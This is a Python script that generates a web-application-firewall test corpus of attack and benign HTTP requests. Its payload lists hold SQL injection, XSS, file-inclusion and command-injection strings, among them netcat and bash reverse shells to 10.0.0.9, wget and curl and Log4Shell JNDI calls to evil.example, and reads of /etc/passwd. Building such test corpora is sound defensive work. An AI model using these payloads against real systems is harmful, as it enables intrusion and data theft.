#!/usr/bin/env python3
"""Writes attacks.jsonl and benign.jsonl (deterministic: same output every run).

Each line is one HTTP request: {"id", "category", "method", "path" (as sent on the wire),
"headers" (object), "body" (string, optional)}. Attack categories follow the OWASP CRS
families the WAF is organised by; every base payload is also sent encoded and obfuscated
(URL, double URL, HTML entities, unicode escapes, case, comments, shell quoting) and in
several places (query, form body, JSON body, cookie, header). Benign requests are
real-looking API calls, searches, forms and JSON documents with unicode, punctuation, prose
and long values. Run: python3 tests/waf-corpus/generate.py
"""
import json
import os
import random
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
rng = random.Random(20261206)
UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"


def q(s):
    return urllib.parse.quote(s, safe="")


def qq(s):
    return q(q(s))


def req(id_, cat, method, path, headers=None, body=None, ctype=None):
    h = {"user-agent": UA, "accept": "*/*"}
    if headers:
        h.update(headers)
    if ctype:
        h["content-type"] = ctype
    r = {"id": id_, "category": cat, "method": method, "path": path, "headers": h}
    if body is not None:
        r["body"] = body
    return r


def placements(cat, n, payload, variants):
    """The payload in the query (URL-encoded), and per variant in other places."""
    out = []
    i = 0
    for kind in variants:
        i += 1
        rid = f"{cat}-{n:03d}-{kind}"
        if kind == "query":
            out.append(req(rid, cat, "GET", f"/search?q={q(payload)}&page=1"))
        elif kind == "double":
            out.append(req(rid, cat, "GET", f"/api/items?filter={qq(payload)}"))
        elif kind == "form":
            body = f"name=alice&comment={q(payload)}"
            out.append(req(rid, cat, "POST", "/comments", body=body,
                           ctype="application/x-www-form-urlencoded"))
        elif kind == "json":
            body = json.dumps({"user": {"id": 7, "bio": payload}, "tags": ["a", "b"]})
            out.append(req(rid, cat, "POST", "/api/v1/profile", body=body, ctype="application/json"))
        elif kind == "jsonu":
            # Every < > ' " as a JSON unicode escape.
            body = json.dumps({"q": payload}, ensure_ascii=True)
            body = body.replace("<", "\\u003c").replace(">", "\\u003e").replace("'", "\\u0027")
            out.append(req(rid, cat, "PUT", "/api/v1/notes/3", body=body, ctype="application/json"))
        elif kind == "cookie":
            out.append(req(rid, cat, "GET", "/account", headers={"cookie": f"session=abc123; pref={q(payload)}"}))
        elif kind == "case":
            p = "".join(c.upper() if (j % 2) else c.lower() for j, c in enumerate(payload))
            out.append(req(rid, cat, "GET", f"/search?q={q(p)}"))
        elif kind == "plus":
            out.append(req(rid, cat, "GET", "/search?q=" + urllib.parse.quote_plus(payload)))
    return out


SQLI = [
    "1' OR '1'='1", "' OR ''='", "admin'--", "admin' #", "admin')--", "1 OR 1=1", "1) OR (1=1",
    "-1 UNION SELECT 1,2,3", "1 UNION ALL SELECT NULL,NULL,NULL--",
    "x' UNION/**/SELECT password FROM users--", "/*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "1;DROP TABLE users", "\"; DROP TABLE users; --", "' AND extractvalue(1,concat(0x7e,version()))--",
    "1 AND SLEEP(5)", "' OR SLEEP(5)#", "1' AND 1=CONVERT(int,@@version)--", "' HAVING 1=1--",
    "' ORDER BY 3--", "1' AND (SELECT COUNT(*) FROM users)>0--", "'||(SELECT 1 FROM dual)||'",
    "1; WAITFOR DELAY '0:0:5'--", "') OR ('a'='a", "' OR 1=1 LIMIT 1 -- -",
    "1 AND 1=1 UNION SELECT table_name FROM information_schema.tables",
    "' UNION SELECT load_file('/etc/passwd')--", "1' AND BENCHMARK(5000000,MD5(1))#",
    "'; EXEC xp_cmdshell('dir');--", "1 OR pg_sleep(5)--", "' or true--",
]
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<body onload=alert('x')>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(document.cookie)\">click</a>", "javascript:alert(1)",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\"><script>alert(1)</script>",
    "<div style=\"width: expression(alert(1))\">", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<form><button formaction=javascript:alert(1)>x",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<video><source onerror=\"alert(1)\">", "<marquee onstart=alert(1)>",
    "<scr<script>ipt>alert(1)</script>", "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<embed src=\"javascript:alert(1)\">", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>", "';document.write('<script src=//evil.js></script>');//",
]
LFI = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/hosts", "/proc/self/environ",
    "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd",
    "http://10.0.0.5/shell.txt", "expect://id", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "C:\\boot.ini", "../../../../../../var/log/apache2/access.log", "zip://archive.zip#shell.php",
    "..%c0%af..%c0%afetc/passwd", "/var/www/../../etc/passwd", "phar://uploads/avatar.jpg",
]
RCE = [
    "; cat /etc/passwd", "| id", "&& whoami", "`uname -a`", "$(whoami)", "; ls -la /", "|| ping -c 3 10.0.0.1",
    "127.0.0.1; nc -e /bin/sh 10.0.0.9 4444", "; wget http://evil.example/x.sh -O /tmp/x", "| curl http://evil.example",
    "; bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", "; c'a't /e't'c/pa's'swd", "; w\\ho\\am\\i", ";cat${IFS}/etc/passwd",
    "() { :; }; /bin/bash -c 'id'", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}",
    "<?php system($_GET['c']); ?>", "system('id')", "& powershell -enc SQBFAFgA", "| cmd.exe /c dir",
    "; python3 -c 'import os; os.system(\"id\")'", "%0aid", "; /usr/bin/id",
]
SCANNER_UAS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "DirBuster-1.0-RC1",
    "gobuster/3.6", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "Fuzz Faster U Fool v2.1.0", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Acunetix)",
    "Wfuzz/3.1", "w3af.org", "Arachni/v1.6", "commix/v3.9", "zgrab/0.x",
]


def attacks():
    out = []
    for n, p in enumerate(SQLI, 1):
        out += placements("sqli", n, p, ["query", "double", "form", "json"] + (["case"] if n % 3 == 0 else []))
    for n, p in enumerate(XSS, 1):
        out += placements("xss", n, p, ["query", "double", "json", "jsonu"] + (["cookie"] if n % 4 == 0 else []))
        if n % 3 == 0:
            ent = "".join("&#%d;" % ord(c) if c in "<>\"'" else c for c in p)
            out.append(req(f"xss-{n:03d}-entity", "xss", "GET", f"/search?q={q(ent)}"))
    for n, p in enumerate(LFI, 1):
        out += placements("lfi", n, p, ["query", "double", "json"])
        out.append(req(f"lfi-{n:03d}-file", "lfi", "GET", f"/download?file={q(p)}"))
    for n, p in enumerate(RCE, 1):
        host = "127.0.0.1" + p
        out += placements("rce", n, host, ["query", "form", "json"])
        if n % 2 == 0:
            out.append(req(f"rce-{n:03d}-double", "rce", "GET", f"/ping?host={qq(host)}"))
    out.append(req("rce-shellshock-ua", "rce", "GET", "/cgi-bin/status", headers={"user-agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}))
    out.append(req("rce-log4shell-header", "rce", "GET", "/", headers={"x-api-version": "${jndi:ldap://evil.example/x}"}))
    for n, ua in enumerate(SCANNER_UAS, 1):
        out.append(req(f"scanner-{n:03d}-ua", "scanner", "GET", "/", headers={"user-agent": ua}))
    for n, path in enumerate(["/nessustest", "/acunetix-wvs-test-for-some-inexistent-file", "/w00tw00t.at.ISC.SANS.DFind:)",
                              "/.git/HEAD", "/.env", "/wp-config.php.bak", "/backup.sql", "/.aws/credentials",
                              "/server-status", "/config.php~"], 1):
        out.append(req(f"scanner-{n:03d}-probe", "scanner", "GET", path))
    out.append(req("scanner-header-acunetix", "scanner", "GET", "/", headers={"acunetix-product": "WVS/13.0"}))
    # Protocol enforcement: each breaks a limit or the protocol.
    proto = [
        ("TRACE", "/", {}, None, None),
        ("PROPFIND", "/", {}, None, None),
        ("GET", "/?" + "&".join(f"a{i}=1" for i in range(1200)), {}, None, None),
        ("GET", "/search?q=" + "A" * 20000, {}, None, None),
        ("GET", "/", {"x-big": "b" * 9000}, None, None),
        ("POST", "/upload", {}, "x" * 10, "application/x-shockwave-flash"),
        ("GET", "/q?name=abc%00def", {}, None, None),
        ("GET", "/q?name=%c0%ae%c0%ae%c0%af", {}, None, None),
        ("POST", "/api/v1/items", {}, "{\"a\": [1, 2,", "application/json"),
        ("GET", "/q?x=%01%02%03", {}, None, None),
        ("GET", "/files/db.sql", {}, None, None),
        ("GET", "/index.php.bak", {}, None, None),
        ("POST", "/form", {}, "a=1&" + "&".join(f"k{i}=v" for i in range(1200)), "application/x-www-form-urlencoded"),
        ("GET", "/static/%uff0e%uff0e/secret", {}, None, None),
        ("GET", "/settings.ini", {}, None, None),
    ]
    for n, (m, path, h, body, ct) in enumerate(proto, 1):
        out.append(req(f"protocol-{n:03d}", "protocol", m, path, headers=h, body=body, ctype=ct))
    return out


WORDS = ("red blue green shoes jacket laptop phone case cable charger coffee tea mug book novel guide "
         "garden chair table lamp desk bike helmet tent boots socks gift card camera lens tripod "
         "kitchen knife pan pot spoon fork plate bowl towel pillow blanket").split()
NAMES = ["Alice", "Bob", "Zoë", "José", "François", "Søren", "Łukasz", "Müller", "O'Brien", "D'Angelo",
         "María José", "Nguyễn", "李小龙", "山田太郎", "Ольга", "Αθηνά", "محمد", "יעל", "Siobhán", "Renée"]
SENTENCES = [
    "Great product, would buy again!", "It's exactly what I needed -- thanks.", "Arrived late; box was damaged.",
    "Can you ship to Canada or the U.S.?", "Color: navy; size: M (runs small).", "5 stars ★★★★★",
    "Please select the best option for me.", "I'd like to order by phone if possible.",
    "Is this compatible with iPhone 15 & iPad?", "Works with 110-240V, 50/60Hz.", "Price was $19.99 + tax.",
    "50% off?! Amazing deal :)", "Tom & Jerry's favourite cheese", "Union Square store pickup, please.",
    "The drop-down menu doesn't work on Firefox.", "We met at the café — très bien!",
    "Q&A: what's the return policy?", "Use code SAVE10 at checkout.", "R&D team feedback: 👍",
    "1/2 cup sugar; 3 eggs; bake at 180°C for 25-30 min.", "He said \"hello\" and left.",
    "My email is someone@example.com, call me at (555) 123-4567.", "Meeting at 10:30 or 11:00?",
    "Size chart: S<M<L<XL", "C++ and C# developers welcome", "Rock 'n' roll forever",
    "See https://example.com/docs?page=2&lang=en for details.", "Temperature range: -20 to +40 °C",
    "Order #12345 (2 items) — delivered to 221B Baker Street.", "I can't log in; it says 'invalid password'.",
    "Markdown **bold** and _italic_ and `code`", "3 > 2 and 1 < 2, obviously", "select all that apply",
    "Where is my order? It was due on 2024-03-01.", "Ünïcödé têxt wörks fïne", "東京で一番おいしいラーメン",
    "Привет, как дела?", "مرحبا بالعالم", "Ελληνικά κείμενα", "emoji test 🎉🚀✨",
]
PATHS = ["/api/v1/products", "/api/v1/orders", "/api/v1/users/me", "/api/v2/search", "/catalog/shoes",
         "/blog/2024/03/spring-sale", "/static/js/app.3f9c2.js", "/images/products/1234-large.webp",
         "/api/v1/carts/98765/items", "/healthz", "/docs/getting-started", "/account/settings"]


def benign():
    out = []
    n = 0

    def add(r):
        nonlocal n
        n += 1
        r["id"] = f"benign-{n:04d}-" + r["id"]
        out.append(r)

    for i in range(260):
        p = rng.choice(PATHS)
        params = {"page": str(rng.randint(1, 50)), "limit": rng.choice(["10", "25", "50", "100"])}
        if rng.random() < 0.7:
            params["q"] = " ".join(rng.sample(WORDS, rng.randint(1, 4)))
        if rng.random() < 0.4:
            params["sort"] = rng.choice(["price", "-price", "name", "created_at", "rating desc"])
        if rng.random() < 0.3:
            params["fields"] = "id,name,price,images"
        if rng.random() < 0.2:
            params["redirect"] = "https://shop.example.com/checkout?step=2"
        add(req("api", "benign", "GET", p + "?" + urllib.parse.urlencode(params)))
    for i in range(200):
        s = rng.choice(SENTENCES)
        add(req("search", "benign", "GET", "/search?" + urllib.parse.urlencode({"q": s, "lang": rng.choice(["en", "fr", "de", "ja"])})))
    for i in range(180):
        name = rng.choice(NAMES)
        body = {
            "name": name,
            "email": f"user{i}@example.com",
            "address": {"street": f"{rng.randint(1, 999)} Main St.", "city": rng.choice(["Paris", "Zürich", "São Paulo", "Kraków", "Tōkyō"]),
                        "zip": f"{rng.randint(10000, 99999)}"},
            "items": [{"sku": f"SKU-{rng.randint(1000, 9999)}", "qty": rng.randint(1, 5), "price": round(rng.uniform(1, 500), 2)}
                      for _ in range(rng.randint(1, 4))],
            "note": rng.choice(SENTENCES),
            "gift": rng.random() < 0.3,
            "coupon": None,
        }
        add(req("json", "benign", rng.choice(["POST", "PUT", "PATCH"]), rng.choice(["/api/v1/orders", "/api/v1/users/me", "/api/v1/carts/1"]),
                body=json.dumps(body, ensure_ascii=rng.random() < 0.5), ctype="application/json"))
    for i in range(150):
        fields = {"name": rng.choice(NAMES), "email": f"visitor{i}@example.org", "subject": rng.choice(["Order question", "Returns", "Feedback"]),
                  "message": " ".join(rng.choice(SENTENCES) for _ in range(rng.randint(1, 4))), "newsletter": rng.choice(["on", "off"])}
        add(req("form", "benign", "POST", rng.choice(["/contact", "/comments", "/signup"]),
                body=urllib.parse.urlencode(fields), ctype="application/x-www-form-urlencoded"))
    for i in range(100):
        text = " ".join(rng.choice(SENTENCES) for _ in range(rng.randint(20, 80)))
        if i % 2:
            add(req("long-json", "benign", "POST", "/api/v1/reviews",
                    body=json.dumps({"product": rng.randint(1, 999), "rating": rng.randint(1, 5), "text": text}), ctype="application/json"))
        else:
            add(req("long-query", "benign", "GET", "/api/v1/translate?" + urllib.parse.urlencode({"text": text[:3000], "to": "de"})))
    for i in range(60):
        add(req("unicode-path", "benign", "GET", "/wiki/" + q(rng.choice(["Zürich", "São_Paulo", "東京", "Москва", "Kraków", "Ἀθῆναι", "café_au_lait"]))))
    for i in range(60):
        cookies = f"session={rng.getrandbits(128):032x}; theme={rng.choice(['dark', 'light'])}; consent=yes; cart=[1,2,3]"
        add(req("cookie", "benign", "GET", rng.choice(PATHS), headers={"cookie": cookies, "referer": "https://shop.example.com/catalog?page=3"}))
    for i in range(40):
        token = "eyJhbGciOiJIUzI1NiJ9." + "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_") for _ in range(120)) + ".sig"
        add(req("auth", "benign", rng.choice(["GET", "DELETE"]), f"/api/v1/sessions/{rng.randint(1, 9999)}",
                headers={"authorization": f"Bearer {token}", "user-agent": rng.choice(["okhttp/4.12.0", "python-requests/2.31.0", "curl/8.5.0", "Go-http-client/2.0", UA])}))
    return out


def write(name, rows):
    with open(os.path.join(HERE, name), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False, sort_keys=True) + "\n")


if __name__ == "__main__":
    a = attacks()
    b = benign()
    write("attacks.jsonl", a)
    write("benign.jsonl", b)
    cats = {}
    for r in a:
        cats[r["category"]] = cats.get(r["category"], 0) + 1
    print(f"attacks.jsonl: {len(a)} {cats}; benign.jsonl: {len(b)}")
